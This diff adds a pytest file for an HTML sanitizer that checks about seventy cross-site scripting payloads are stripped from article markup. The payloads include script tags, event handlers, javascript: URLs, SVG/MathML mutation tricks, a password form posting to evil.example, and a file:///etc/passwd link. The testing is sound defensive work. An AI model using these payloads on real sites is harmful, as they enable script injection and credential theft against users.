@@ -1,0 +1,151 @@
+"""What of an article's html reaches the page: all that is worth reading, nothing that runs, styles or calls home."""
+
+import pytest
+from lxml import html
+
+from catalog.reader import readable
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='https://evil.example/x.swf'>",
+    "<applet code=x></applet>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
+    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
+    "<a href='https://ok.example' target=_top ping='https://evil.example'>x</a>",
+    "<p style='background:url(https://evil.example)'>x</p>",
+    "<p onmouseover=alert(1) id=main class='topbar btn'>x</p>",
+    "<style>body{display:none}</style>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>",
+    "<form action='https://evil.example'><input name=password><button>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<select><option onclick=alert(1)>x</select>",
+    "<video src='https://evil.example/x.mp4' autoplay></video>",
+    "<audio src='https://evil.example/x.mp3' autoplay></audio>",
+    "<video><source onerror=alert(1)></video>",
+    "<picture><source srcset='https://evil.example/x.png'><img src=x></picture>",
+    "<img srcset='https://evil.example/x.png 1x'>",
+    "<body onload=alert(1)>x</body>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<div hx-get='/runs/1/cancel' hx-trigger=load>x</div>",
+    "<button data-copy data-confirm=x>x</button>",
+    "<dialog open id=keys>x</dialog>",
+    "<pre><code class='language-python tok-x state-failed'><script>alert(1)</script></code></pre>",
+    "<pre><code class='language-html'>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
+    "<span class='tok-k btn btn-primary'>x</span>",
+    "<p>" + "\u202e" * 100 + "txet</p>",
+    "<p>" + "w" * 1_000_000 + "</p>",
+    "<div>" * 5_000 + "deep",
+    "<b>" * 2_000,
+    "<table><tr><td colspan=99999999>x</td></tr></table>",
+    "\x00<script\x00>alert(1)</script>",
+    "<p>\ud800</p>".encode("utf-8", "replace").decode(),
+    "<a href='https://[::1'>x</a>",
+    "</div></article></main><h1>Signed out</h1>",
+]
+RUNS = {
+    "script",
+    "style",
+    "iframe",
+    "object",
+    "embed",
+    "svg",
+    "math",
+    "form",
+    "input",
+    "button",
+    "link",
+    "meta",
+    "base",
+}
+LOADS = {"img", "video", "audio", "source", "picture", "template", "dialog", "textarea", "select", "marquee", "applet"}
+KEPT = {"href", "title", "class", "rel", "start", "colspan", "rowspan", "scope", "datetime"}
+
+
+@pytest.mark.parametrize("markup", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_hostile_is_left(markup: str) -> None:
+    tree = html.fragment_fromstring(f"<div>{readable(markup)}</div>", create_parent="article")
+    for element in tree.iter():
+        assert isinstance(element.tag, str)
+        assert element.tag not in RUNS | LOADS
+        assert set(element.attrib) <= KEPT
+        assert element.get("href", "https:").split(":")[0] in ("https", "http", "mailto")
+        for name in element.get("class", "").split():
+            assert name.startswith(("tok-", "image-off"))
+    assert len(tree) == 1, "it closes no element of the page around it"
+
+
+def test_what_is_worth_reading_stays() -> None:
+    markup = (
+        '<h2>Head</h2><p>A <strong>b</strong> <em>c</em> <a href="https://x.example/">d</a> <code>e</code></p>'
+        '<ul><li>f</li></ul><ol start="3"><li>g</li></ol><blockquote><p>h</p></blockquote>'
+        '<table><tbody><tr><th scope="col">i</th></tr><tr><td colspan="2">j</td></tr></tbody></table>'
+        "<figure><figcaption>k</figcaption></figure><hr><dl><dt>l</dt><dd>m</dd></dl>"
+    )
+    shown = readable(markup)
+    for piece in ("<h2>Head</h2>", "<strong>b</strong>", "<code>e</code>", 'start="3"', 'scope="col"', "<dt>l</dt>"):
+        assert piece in shown
+    assert 'href="https://x.example/" rel="noopener noreferrer nofollow"' in shown
+
+
+def test_code_is_coloured_and_not_a_character_of_it_changes() -> None:
+    code = "\n\ndef f(x):\n\n    return x < 1 and '&amp;'  # ok\n\n\n"
+    escaped = code.replace("&", "&amp;").replace("<", "&lt;")
+    shown = readable(f'<pre><code class="language-python">{escaped}</code></pre>')
+    assert 'class="tok-k"' in shown
+    assert html.fragment_fromstring(shown, create_parent="div").text_content().strip("\n") == code.strip("\n")
+
+
+@pytest.mark.parametrize("name", ["nonsense", "", "x" * 10_000])
+def test_code_in_no_known_language_stays_plain(name: str) -> None:
+    assert "<pre><code>x = 1</code></pre>" in readable(f'<pre><code class="language-{name}">x = 1</code></pre>')
+
+
+def test_an_image_becomes_a_link_that_says_what_it_shows() -> None:
+    shown = readable(
+        '<p><img src="https://x.example/a.png" alt="A chart">after</p><a href="https://y.example/"><img src="b"></a>'
+    )
+    assert 'href="https://x.example/a.png"' in shown
+    assert "Image: A chart</a>after" in shown
+    assert '<span class="image-off">Image: no description</span>' in shown
+
+
+@pytest.mark.parametrize("markup", ["", "   ", "<!-- -->", "plain & simple"])
+def test_little_is_no_trouble(markup: str) -> None:
+    assert "<!--" not in readable(markup)
